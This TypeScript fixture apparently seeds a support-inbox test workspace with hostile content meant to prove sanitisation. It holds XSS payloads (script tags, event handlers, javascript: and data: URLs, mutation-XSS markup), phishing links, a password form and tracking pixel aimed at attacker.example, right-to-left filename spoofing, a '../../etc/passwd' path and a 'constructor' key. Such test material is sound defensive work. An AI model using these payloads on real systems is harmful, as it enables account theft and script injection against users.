import type { Cast } from '../cast.ts'
import { DAY, HOUR } from '../clock.ts'
import { buildContentSources, startThread, buildUpload } from '../thread.ts'

/**
 * Adds hostile content: reordered names, markup in plain text, misleading links and an HTML email with every trick.
 * None of it may take effect.
 */
export function addHostile({ workspace, now, admins, contacts }: Cast): void {
  const { priya } = admins
  const { bidi, markup, ghost } = contacts
  if (!bidi || !markup || !ghost) return

  startThread(workspace, {
    contact: bidi,
    at: now - 12 * HOUR,
    title: 'Invoice \u202Efdp.exe \u2066(Support)\u2069\u202E',
    body: `<p>Your account was suspended. Confirm at <a href="https://attacker.example/login">https://app.tidewater.example/login</a> or <a href="https://app.tidewater.example@attacker.example/">https://app.tidewater.example@attacker.example/</a>.</p>
<p><a href="javascript:alert(document.domain)">Unsubscribe</a> &middot; <a href="//attacker.example/x">Help</a> &middot; <a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">Terms</a></p>`,
    source: { attachments: [buildUpload('invoice\u202Efdp.exe', 'application/pdf', 12), buildUpload('../../etc/passwd', 'text/plain', 0)] },
  }).note(priya, 30, '<p>Phishing. Please do not click; reported to security.</p>')

  startThread(workspace, {
    contact: markup,
    at: now - 13 * HOUR,
    title: '&lt;script&gt;alert(&quot;subject&quot;)&lt;/script&gt;',
    body: `<html><head><style>p{color:red;position:fixed;inset:0}</style><meta http-equiv="refresh" content="0;url=https://attacker.example"></head><body onload="alert(1)">
<p onclick="alert(1)" style="background:url(https://attacker.example/track)">Hello <b onmouseover=alert(1)>there</b></p>
<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<iframe src="https://attacker.example/"></iframe><form action="https://attacker.example"><input name="password"><button>Sign in again</button></form>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<img src="https://attacker.example/pixel.gif?open=1" width="1" height="1"><object data="data:text/html,x"></object>
<table><tr><td background="javascript:alert(1)">cell</td></tr></table><p>Bye &#x202e;dlrow</p></body></html>`,
    source: { type: 'email', subject: '&lt;script&gt;alert(&quot;subject&quot;)&lt;/script&gt;', url: 'javascript:alert(1)' },
  })
    .bot(1, '<p>Please sign in again.</p>')
    .agent({
      resolution_state: 'routed_to_team',
      rating: 1,
      rating_remark: 'Bad\u202Etseb',
      content_sources: buildContentSources([
        ['Sign in \u202Efdp.exe\u202C', 'javascript:alert(document.domain)'],
        ['https://app.tidewater.example/login', 'https://attacker.example/login'],
        ['W'.repeat(400), '/fin-ai-agent/content?id=1'],
      ]),
    })
    .rate(1, 2, '&lt;img src=x onerror=alert(1)&gt; '.repeat(80), priya)
    .set({ sla_applied: { type: 'conversation_sla_summary', sla_name: 'Gold \u202Edlog <b>x</b> '.repeat(40), sla_status: 'missed' } })
    .attributes({
      'Invoice \u202Efdp.exe': 'PO \u2066<script>\u2069',
      'A name that goes on without end and without a place to break, asitneverstopsandneverbreaks': 'x'.repeat(3000),
      constructor: 'Object',
    })

  startThread(workspace, {
    contact: ghost,
    at: now - 3 * DAY - 8 * HOUR,
    title: '',
    body: '',
    source: { type: 'email', subject: '', url: null },
  })
    .customer(1, '<p>\u200B\u200B\u200B</p>')
    .customer(1, '<p>Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮ and WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW</p>')
    .close(priya, 200)
}
